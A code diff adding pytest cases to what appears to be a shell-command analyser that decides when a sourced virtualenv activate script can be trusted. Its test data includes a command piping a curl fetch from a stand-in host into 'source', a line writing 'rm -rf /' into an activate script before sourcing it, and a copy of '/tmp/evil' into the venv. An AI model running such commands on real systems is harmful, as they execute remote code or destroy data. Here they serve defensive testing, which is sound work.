@@ -204,7 +204,7 @@ def test_cd_keeps_everyday_commands_quiet(command: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "command", ["source .venv/bin/activate", ". ./env.sh", "source <(curl -s x.example)"]
+    "command", ["source .venv/bin/env.sh", ". ./env.sh", "source <(curl -s x.example)"]
 )
 def test_source_runs_a_script_that_is_not_seen(command: str) -> None:
     assert "script" in {k for k, _ in home_facts(command)["unresolved"]}, home_facts(command)
@@ -411,3 +411,67 @@ def test_a_loop_variable_that_may_be_something_else_is_computed(command: str) ->
 def test_too_many_words_leave_the_loop_variable_computed() -> None:
     words = " ".join(f"f{k}.txt" for k in range(17))
     assert "unresolved" in facts(f'for f in {words}; do wc -l "$f"; done')
+
+
+# -- virtualenv activate scripts ------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "source .venv/bin/activate",
+        ". venv/bin/activate && pytest -q",
+        ". ./.venv/bin/activate",
+        "source /repo/services/api/.venv/bin/activate",
+        "python3 -m venv .venv && . .venv/bin/activate",
+    ],
+)
+def test_a_virtualenv_activate_script_in_the_workspace_is_known(command: str) -> None:
+    f = facts(command)
+    assert "unresolved" not in f
+    assert (
+        ("/repo/.venv/bin/activate",) in f["reads_file"]
+        or ("/repo/venv/bin/activate",) in f["reads_file"]
+        or ("/repo/services/api/.venv/bin/activate",) in f["reads_file"]
+    )
+
+
+@pytest.mark.parametrize(
+    ("command", "detail"),
+    [
+        ("source env.sh", "source runs a script file whose commands are not seen"),
+        ("source .venv/bin/activate.fish", "source runs a script file whose commands are not seen"),
+        ("source /tmp/x/bin/activate", "source runs a script file whose commands are not seen"),
+        ("source ../other/bin/activate", "source runs a script file whose commands are not seen"),
+        (
+            "cd /tmp && source .venv/bin/activate",
+            "source runs a script file whose commands are not seen",
+        ),
+        (
+            "cd - && source .venv/bin/activate",
+            "source runs a script file whose commands are not seen",
+        ),
+        ("source .venv/bin/activate prod", "source runs a script file whose commands are not seen"),
+        ("source .v*/bin/activate", "source runs a script file whose commands are not seen"),
+        ("source <(echo x)/bin/activate", "source runs a script file whose commands are not seen"),
+        (
+            "echo 'rm -rf /' > .venv/bin/activate; source .venv/bin/activate",
+            "the command changes the activate script it sources",
+        ),
+        (
+            "cp /tmp/evil .venv/bin/ && . .venv/bin/activate",
+            "the command changes the activate script it sources",
+        ),
+        (
+            "rm -rf .venv; . .venv/bin/activate",
+            "the command changes the activate script it sources",
+        ),
+    ],
+)
+def test_other_scripts_sourced_stay_unresolved(command: str, detail: str) -> None:
+    assert ("script", detail) in facts(command).get("unresolved", set())
+
+
+def test_an_activate_script_in_the_root_folder_is_not_the_workspace_s() -> None:
+    f = normalize_shell("source /tmp/x/bin/activate", "/").facts
+    assert ("script", "source runs a script file whose commands are not seen") in f["unresolved"]
